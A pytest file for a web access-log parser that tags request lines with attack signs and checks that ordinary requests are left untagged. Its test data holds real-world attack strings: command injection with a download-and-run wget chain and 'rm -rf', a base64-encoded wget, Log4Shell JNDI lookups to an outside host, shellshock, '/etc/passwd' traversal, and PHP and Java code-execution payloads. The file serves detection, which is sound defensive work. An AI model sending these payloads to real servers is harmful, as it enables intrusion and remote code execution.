from datetime import UTC

import pytest

from hemostat.parse.logs.access_lines import read_line
from hemostat.parse.logs.access_log import _cheap  # the two must agree
from hemostat.parse.logs.access_signs import is_data_script, is_script, script_of, signs_of
from parse.logs.made_access import line as text_of


def signs(request: str, agent: str = "x/1") -> set[str]:
    raw = text_of(request, agent=agent).rstrip("\n").encode()
    line = read_line(raw, UTC)
    assert line is not None
    found = {sign.kind for sign in signs_of(line)[1]}
    assert not found or _cheap().search(raw), "the first pass would pass this over"
    return found


@pytest.mark.requirement("A2.6")
@pytest.mark.parametrize(
    ("asked", "sign"),
    [
        ("GET /s.jsp?cmd=id", "command_word"),
        ("GET /s.jsp?pwd=1&x=cat%20/etc/passwd", "command"),
        ("GET /ping.php?ip=127.0.0.1%3Bwhoami", "command"),
        ("GET /ping.php?ip=%60id%60", "command"),
        ("GET /a.php?z0=d2dldCBodHRwOi8vYS5iL20gLU8gL3RtcC9t", "command"),
        ("GET /shell?cd+/tmp;rm+-rf+*;wget+http://a/j;sh+/tmp/j", "command"),
        (r"POST /index.php?s=/Index/\\think\\app/invokefunction&vars[0]=system", "code"),
        ("GET /x.action?a=%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29%29%7D", "code"),
        ("GET /index.php?a=%3C%3Fphp%20x", "code"),
        ("POST /cgi-bin/.%2e/%2e%2e/bin/sh", "file"),
        ("POST /cgi-bin/.%2e/%2e%2e/bin/sh", "hole"),
        ("GET /a/..;/manager/html", "traversal"),
        ("GET /v.php?f=..%252f..%252fetc/passwd", "file"),
        ("GET /v.php?id=1%20UNION%20ALL%20SELECT%201", "sql"),
        ("GET /?x=${jndi:ldap://198.51.100.7/a}", "lookup"),
        ("GET /.env", "secret"),
        ("GET /.git/config", "secret"),
        ("GET /backup.tar.gz", "secret"),
        ("PUT /a/s.jsp/", "upload"),
        ("PUT /a/s.jsp%20", "upload"),
        ("MOVE /a/s.php", "upload"),
        ("POST /static/upload/20261121/a.php", "data_script"),
        ("POST /vendor/phpunit/src/Util/PHP/eval-stdin.php", "hole"),
        ("POST /scriptText", "hole"),
        ("POST /wp-login.php", "log_in"),
        ("POST /user/login", "log_in"),
        ("GET /manager/html", "log_in"),
    ],
)
def test_what_is_tried_is_told(asked: str, sign: str) -> None:
    assert sign in signs(asked)


def test_headers_are_read_too() -> None:
    assert "lookup" in signs("GET /", agent="${${lower:j}ndi:ldap://a/b}")
    assert "shellshock" in signs("GET /cgi-bin/a.cgi", agent="() { :; }; /bin/id")


@pytest.mark.parametrize(
    "asked",
    [
        "GET /?s=how+to+cat+/etc/passwd",
        "GET /search?q=union+select+wget+http://a+|+sh",
        "GET /posts/reading-/etc/passwd-explained/",
        "GET /api/run?cmd=list&exec=true&command=start",
        "GET /report?fields=name%7Cid%7Cdate&sort=id",
        "GET /shop?category=cat+food&title=find+jobs",
        "GET /elfinder/connector.php?cmd=ls&target=l1_",
        "GET /group/proj/-/raw/main/.env",
        "PUT /remote.php/dav/files/li/a.php",
        "PUT /api/v4/projects/7/repository/files/src%2Fa.php",
        "GET /hook?payload=eyJhY3Rpb24iOiJvcGVuZWQiLCJudW1iZXIiOjF9",
        "GET /cb?redirect_uri=https%3A%2F%2Fa.b%2Fc%3Fx%3D1&state=Zm9vYmFyZm9vYmFy",
        "GET /images/thumb.php?src=a.jpg",
        "GET /uploads/photo.jpg",
        "GET /js/app.js?v=1.2",
        "GET /order.do?cmd=query&id=7",
    ],
)
def test_ordinary_requests_bear_no_sign(asked: str) -> None:
    assert signs(asked) == set()


def test_a_script_ends_where_servers_end_it() -> None:
    assert script_of("/a/s.jsp;jsessionid=1") == "/a/s.jsp"
    assert script_of("/a/s.php::$DATA") == "/a/s.php"
    assert script_of("/remote.php/dav/files/li/notes") == ""
    assert is_script("/a.phtml")
    assert not is_script("/a.php.txt.html.bz2-and-more")


def test_handlers_that_sites_bring_are_no_data_scripts() -> None:
    assert is_data_script("/uploads/x.php")
    assert not is_data_script("/uploads/uploader.php")
    assert not is_data_script("/ueditor/php/upload/controller.php")
